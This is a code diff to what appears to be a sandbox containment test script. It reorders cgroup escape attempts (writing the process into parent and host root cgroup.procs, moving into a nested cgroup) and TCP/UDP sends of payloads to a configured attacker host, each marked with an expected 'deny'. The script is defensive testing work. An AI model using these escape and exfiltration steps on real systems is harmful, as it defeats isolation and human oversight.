@@ -271,9 +271,10 @@ def run_child(cfg, depth):
     host = sorted(cfg["attackers"])[0]
     port = cfg["attackers"][host]
     who = "child" if depth == 1 else "grandchild"
-    attempt("%s_tcp_%s" % (who, host), "deny", "connect", "%s:%d/tcp" % (host, port),
+    tag = host.replace(":", "_").replace(".", "_")
+    attempt("%s_tcp_%s" % (who, tag), "deny", "connect", "%s:%d/tcp" % (host, port),
             tcp_send(host, port, payload(cfg, who)))
-    attempt("%s_udp_%s" % (who, host), "deny", "sendmsg", "%s:%d/udp" % (host, port),
+    attempt("%s_udp_%s" % (who, tag), "deny", "sendmsg", "%s:%d/udp" % (host, port),
             udp_sendto(host, port, payload(cfg, who)))
     if depth == 1:
         # grandchild through a raw fork + exec (not subprocess).
@@ -383,37 +384,42 @@ def cgroup_escape(cfg):
     port = cfg["attackers"][host]
     mount = cgroup2_mount()
     nspath = ns_cgroup_path()
-    emit({"name": "cgroup_view", "info": True, "ns_path": nspath, "mount": mount})
-    # 1. Parent as seen inside the cgroup namespace ("/" -> its parent is "/").
+    # Our real directory (the namespace shows "/"), found by walking the tree.
+    real = find_real_cgroup_dir(mount, os.getpid())
+    emit({"name": "cgroup_view", "info": True, "ns_path": nspath, "mount": mount, "real_dir": real})
+    # 1. A nested cgroup under our own: mkdir, move in, connect.
+    own = real or os.path.join(mount, (nspath or "/").lstrip("/"))
+    nested = os.path.join(own, "nested-escape")
+    mk = attempt("cgroup_nested_mkdir", "any", "cgroup", nested, lambda: os.mkdir(nested) or 0)
+    if mk["ok"]:
+        attempt("cgroup_nested_move", "any", "cgroup", nested,
+                write_procs(os.path.join(nested, "cgroup.procs")))
+        emit({"name": "cgroup_after_move", "info": True, "ns_path": ns_cgroup_path(),
+              "real_dir": find_real_cgroup_dir(mount, os.getpid(), 6)})
+    attempt("nested_tcp", "deny", "connect", "%s:%d/tcp" % (host, port),
+            tcp_send(host, port, payload(cfg, "nested_tcp")))
+    attempt("nested_udp", "deny", "sendmsg", "%s:%d/udp" % (host, port),
+            udp_sendto(host, port, payload(cfg, "nested_udp")))
+    # 2. The real host path of the parent cgroup.
+    if real and os.path.normpath(real) != os.path.normpath(mount):
+        parent = os.path.dirname(os.path.normpath(real))
+        attempt("cgroup_escape_real_parent", "deny", "cgroup", parent,
+                write_procs(os.path.join(parent, "cgroup.procs")))
+    # 3. The parent as seen inside the cgroup namespace ("/" -> "/"), i.e.
+    #    the cgroup2 mount's own cgroup.procs: the host root cgroup.
     ns_parent = os.path.normpath(os.path.join(mount, (nspath or "/").lstrip("/"), ".."))
     if not ns_parent.startswith(mount):
         ns_parent = mount
     attempt("cgroup_escape_ns_parent", "deny", "cgroup", ns_parent,
             write_procs(os.path.join(ns_parent, "cgroup.procs")))
-    # 2. The real host path of the parent cgroup, found by walking the tree.
-    real = find_real_cgroup_dir(mount, os.getpid())
-    emit({"name": "cgroup_real_dir", "info": True, "dir": real})
-    if real and os.path.normpath(real) != os.path.normpath(mount):
-        parent = os.path.dirname(os.path.normpath(real))
-        attempt("cgroup_escape_real_parent", "deny", "cgroup", parent,
-                write_procs(os.path.join(parent, "cgroup.procs")))
-    # 3. The host root cgroup.
     attempt("cgroup_escape_root", "deny", "cgroup", mount,
             write_procs(os.path.join(mount, "cgroup.procs")))
+    emit({"name": "cgroup_after_escape", "info": True, "ns_path": ns_cgroup_path(),
+          "real_dir": find_real_cgroup_dir(mount, os.getpid(), 6)})
     attempt("after_escape_tcp", "deny", "connect", "%s:%d/tcp" % (host, port),
             tcp_send(host, port, payload(cfg, "after_escape")))
-    # 4. A nested cgroup under our own: mkdir, move in, connect.
-    own = real or os.path.join(mount, (nspath or "/").lstrip("/"))
-    nested = os.path.join(own, "nested-escape")
-    mk = attempt("cgroup_nested_mkdir", "any", "cgroup", nested, lambda: os.mkdir(nested) or 0)
-    if mk["ok"]:
-        mv = attempt("cgroup_nested_move", "any", "cgroup", nested,
-                     write_procs(os.path.join(nested, "cgroup.procs")))
-        emit({"name": "cgroup_after_move", "info": True, "ns_path": ns_cgroup_path()})
-    attempt("nested_tcp", "deny", "connect", "%s:%d/tcp" % (host, port),
-            tcp_send(host, port, payload(cfg, "nested_tcp")))
-    attempt("nested_udp", "deny", "sendmsg", "%s:%d/udp" % (host, port),
-            udp_sendto(host, port, payload(cfg, "nested_udp")))
+    attempt("after_escape_udp", "deny", "sendmsg", "%s:%d/udp" % (host, port),
+            udp_sendto(host, port, payload(cfg, "after_escape_udp")))
 
 
 if __name__ == "__main__":
